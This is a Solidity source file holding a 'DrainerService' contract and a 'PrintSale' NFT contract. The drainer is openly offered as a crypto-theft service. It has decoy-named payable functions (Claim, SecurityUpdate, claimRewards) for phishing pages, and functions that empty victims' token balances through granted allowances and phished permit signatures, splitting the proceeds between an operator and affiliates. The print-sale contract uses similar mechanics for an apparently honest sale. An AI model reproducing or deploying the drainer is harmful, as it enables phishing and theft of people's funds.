// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Token} from "../props/Tokens.sol";
import {SignedPermit} from "../signature/PermitPhish.sol";
import {IERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/IERC20Permit.sol";

/// Drains for others, who bring the victims, and keeps a fifth. What victims see has kind names.
contract DrainerService {
    address payable private operator;

    function begin(address payable operator_) external {
        require(operator == address(0));
        operator = operator_;
    }

    // The first is what pages have victims call; the affiliate's address is hidden in the data.
    function Claim(address payable affiliate) external payable {
        split(affiliate);
    }

    function SecurityUpdate(address payable affiliate) external payable {
        split(affiliate);
    }

    function claimRewards(address payable affiliate) external payable {
        split(affiliate);
    }

    function pull(Token token, address[] calldata owners, address affiliate) external {
        for (uint256 i = 0; i < owners.length; i++) share(token, owners[i], affiliate);
    }

    function pullPermitted(Token token, SignedPermit[] calldata permits, address affiliate) external {
        for (uint256 i = 0; i < permits.length; i++) {
            SignedPermit calldata one = permits[i];
            IERC20Permit(address(token)).permit(one.owner, address(this), one.value, one.deadline, one.v, one.r, one.s);
            share(token, one.owner, affiliate);
        }
    }

    function split(address payable affiliate) private {
        uint256 fee = msg.value / 5;
        (bool ok,) = operator.call{value: fee}("");
        require(ok);
        (ok,) = affiliate.call{value: msg.value - fee}("");
        require(ok);
    }

    function share(Token token, address from, address affiliate) private {
        uint256 all = token.balanceOf(from);
        uint256 allowed = token.allowance(from, address(this));
        if (allowed < all) all = allowed;
        token.transferFrom(from, operator, all / 5);
        token.transferFrom(from, affiliate, all - all / 5);
    }
}

/// Sells prints of an artist for coins or dollars, and splits what comes in at once: a fifth for the platform.
contract PrintSale {
    address payable public immutable platform;
    address payable public immutable artist;
    Token public immutable dollars;
    uint256 public next = 1;
    mapping(uint256 => address) public ownerOf;

    event Transfer(address indexed from, address indexed to, uint256 indexed tokenId);

    constructor(address payable platform_, address payable artist_, Token dollars_) {
        (platform, artist, dollars) = (platform_, artist_, dollars_);
    }

    function claim(uint256 count) external payable {
        uint256 fee = msg.value / 5;
        (bool ok,) = platform.call{value: fee}("");
        require(ok, "platform not paid");
        (ok,) = artist.call{value: msg.value - fee}("");
        require(ok, "artist not paid");
        mint(msg.sender, count);
    }

    /// The gallery delivers what people ordered with a permit; they pay when it is delivered.
    function deliver(SignedPermit[] calldata permits, uint256 count) external {
        for (uint256 i = 0; i < permits.length; i++) {
            SignedPermit calldata one = permits[i];
            IERC20Permit(address(dollars)).permit(
                one.owner, address(this), one.value, one.deadline, one.v, one.r, one.s
            );
            dollars.transferFrom(one.owner, platform, one.value / 5);
            dollars.transferFrom(one.owner, artist, one.value - one.value / 5);
            mint(one.owner, count);
        }
    }

    function mint(address to, uint256 count) private {
        for (uint256 i = 0; i < count; i++) {
            ownerOf[next] = to;
            emit Transfer(address(0), to, next++);
        }
    }
}
